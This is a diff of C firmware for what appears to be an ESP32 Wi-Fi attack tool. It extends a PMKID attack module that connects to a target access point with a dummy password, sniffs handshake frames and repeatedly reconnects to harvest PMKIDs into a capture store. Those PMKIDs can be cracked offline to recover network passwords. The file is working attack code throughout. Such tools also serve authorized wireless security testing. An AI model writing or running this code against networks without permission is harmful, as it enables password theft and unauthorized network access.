@@ -11,80 +11,129 @@
 
 #include "attack_pmkid.h"
 
+#include <stdbool.h>
+#include <stdint.h>
+#include <stdlib.h>
 #include <string.h>
 #define LOG_LOCAL_LEVEL ESP_LOG_VERBOSE
 #include "esp_log.h"
 #include "esp_err.h"
 #include "esp_event.h"
+#include "esp_timer.h"
 
 #include "attack.h"
+#include "attack_timing.h"
 #include "wifi_controller.h"
 #include "frame_analyzer.h"
 #include "frame_analyzer_types.h"
+#include "capture_store.h"
 
 static const char* TAG = "main:attack_pmkid";
 static const wifi_ap_record_t *ap_record = NULL;
+static attack_pmkid_methods_t method = ATTACK_PMKID_METHOD_FIRST;
+static esp_timer_handle_t window_timer_handle = NULL;
+/**
+ * @brief PMKIDs captured in current run. Capture store can't hold more, so the table has the same size.
+ * @{
+ */
+static uint8_t collected_pmkids[CAPTURE_STORE_MAX_PMKIDS][16];
+static unsigned collected_count = 0;
+//@}
+
+/**
+ * @brief Callback for collection window timer.
+ * 
+ * @param arg run_id of attack run the timer was created for
+ */
+static void collection_window_elapsed(void *arg){
+    ESP_LOGI(TAG, "Collected %u PMKIDs, finishing attack", collected_count);
+    attack_report_result((uint32_t) (uintptr_t) arg);
+}
+
+/**
+ * @brief Checks whether PMKID was already collected in this run and remembers it if not.
+ * 
+ * @return true if PMKID is new and there is space to store it
+ */
+static bool collect_pmkid(const uint8_t *pmkid){
+    for(unsigned i = 0; i < collected_count; i++){
+        if(memcmp(collected_pmkids[i], pmkid, 16) == 0){
+            return false;
+        }
+    }
+    if(collected_count >= CAPTURE_STORE_MAX_PMKIDS){
+        ESP_LOGW(TAG, "PMKID table full, PMKID dropped");
+        return false;
+    }
+    memcpy(collected_pmkids[collected_count], pmkid, 16);
+    collected_count++;
+    return true;
+}
 
 /**
  * @brief Callback for DATA_FRAME_EVENT_PMKID event.
  * 
- * If DATA_FRAME_EVENT_PMKID is received from event pool, this function stops PMKID attack and serialize 
- * captured PMKIDs into status content.
+ * If DATA_FRAME_EVENT_PMKID is received from event pool, this function stores 
+ * captured PMKIDs that were not seen in this run yet into capture store.
+ * With ATTACK_PMKID_METHOD_FIRST it reports result right away, so attack controller stops PMKID attack.
+ * With ATTACK_PMKID_METHOD_COLLECT the first PMKID starts collection window, the result is reported when it elapses.
  * 
- * @param args not used
+ * @param args run_id of attack run the handler was registered for
  * @param event_base expects FRAME_ANALYZER_EVENTS
  * @param event_id expects DATA_FRAME_EVENT_PMKID
- * @param event_data expexcts pmkid_item_t *
+ * @param event_data expexcts pmkid_list_t
  */
 static void pmkid_exit_condition_handler(void *args, esp_event_base_t event_base, int32_t event_id, void *event_data) {
-    ESP_LOGD(TAG, "Got PMKID, stopping attack...");
-    attack_update_status(FINISHED);
-    attack_pmkid_stop();
-    
-    pmkid_item_t *pmkid_item_head = *(pmkid_item_t **) event_data;
-    // count how many PMKIDs in the list
-    pmkid_item_t *pmkid_item = pmkid_item_head;
-    unsigned pmkid_item_count = 1; 
-    while((pmkid_item = pmkid_item->next) != NULL){
-        pmkid_item_count++;
+    ESP_LOGD(TAG, "Got PMKID");
+    attack_timing_mark(ATTACK_PHASE_PMKID);
+    // AP sends fresh M1 on next association attempt, which may carry different PMKID
+    wifictl_sta_reconnect_m1_received();
+    bool first = (collected_count == 0);
+    if(first){
+        uint8_t mac_sta[6];
+        wifictl_get_sta_mac(mac_sta);
+        capture_store_set_sta_mac(mac_sta);
     }
 
-    // MAC_STA + MAC_AP + SSID size + SSID + PMKID * count
-    char *content = attack_alloc_result_content(6 + 6 + 1 + strlen((char *) ap_record->ssid) + (pmkid_item_count * 16));
-    wifictl_get_sta_mac((uint8_t *) content);
-    content += 6;
-    memcpy(content, ap_record->bssid, 6);
-    content += 6;
-    content[0] = strlen((char *) ap_record->ssid);
-    content += 1;
-    strcpy(content, (char *) ap_record->ssid);
-    content += strlen((char *) ap_record->ssid);
-
-    // copy PMKIDs into continuous memory into "content" in status 
-    pmkid_item = pmkid_item_head;
-    do {
-        pmkid_item_head = pmkid_item;
-        memcpy(content, pmkid_item_head, 16);
-        content += 16;
-        pmkid_item = pmkid_item->next;
-        free(pmkid_item_head);
-    } while(pmkid_item != NULL);
+    // copy new PMKIDs from the list into capture store
+    const pmkid_list_t *pmkid_list = (const pmkid_list_t *) event_data;
+    for(unsigned i = 0; i < pmkid_list->count; i++){
+        if(collect_pmkid(pmkid_list->pmkids[i])){
+            capture_store_add_pmkid(pmkid_list->pmkids[i]);
+        }
+    }
 
-    ESP_LOGD(TAG, "PMKID attack finished");
+    if(method != ATTACK_PMKID_METHOD_COLLECT){
+        attack_report_result((uint32_t) (uintptr_t) args);
+        ESP_LOGD(TAG, "PMKID attack finished");
+    } else if(first && (collected_count > 0)){
+        ESP_LOGI(TAG, "Collecting PMKIDs for %d s", CONFIG_ATTACK_PMKID_COLLECT_WINDOW);
+        ESP_ERROR_CHECK(esp_timer_start_once(window_timer_handle, CONFIG_ATTACK_PMKID_COLLECT_WINDOW * 1000000ULL));
+    }
 }
 
 void attack_pmkid_start(attack_config_t *attack_config){
     ESP_LOGI(TAG, "Starting PMKID attack...");
     ap_record = attack_config->ap_record;
+    method = attack_config->method;
+    collected_count = 0;
+    // timer is recreated so it carries id of this run
+    esp_timer_delete(window_timer_handle);
+    const esp_timer_create_args_t window_timer_args = {
+        .callback = &collection_window_elapsed,
+        .arg = (void *) (uintptr_t) attack_config->run_id
+    };
+    ESP_ERROR_CHECK(esp_timer_create(&window_timer_args, &window_timer_handle));
     wifictl_sniffer_filter_frame_types(true, false, false);
     wifictl_sniffer_start(ap_record->primary);
     frame_analyzer_capture_start(SEARCH_PMKID, ap_record->bssid);
-    wifictl_sta_connect_to_ap(ap_record, "dummypassword");
-    ESP_ERROR_CHECK(esp_event_handler_register(FRAME_ANALYZER_EVENTS, DATA_FRAME_EVENT_PMKID, &pmkid_exit_condition_handler, NULL));
+    ESP_ERROR_CHECK(esp_event_handler_register(FRAME_ANALYZER_EVENTS, DATA_FRAME_EVENT_PMKID, &pmkid_exit_condition_handler, (void *) (uintptr_t) attack_config->run_id));
+    wifictl_sta_reconnect_start(ap_record, "dummypassword");
 }
 
 void attack_pmkid_stop(){
-    wifictl_sta_disconnect();
+    esp_timer_stop(window_timer_handle);
+    wifictl_sta_reconnect_stop();
     wifictl_sniffer_stop();
     frame_analyzer_capture_stop();
     ESP_ERROR_CHECK(esp_event_handler_unregister(ESP_EVENT_ANY_BASE, ESP_EVENT_ANY_ID, &pmkid_exit_condition_handler));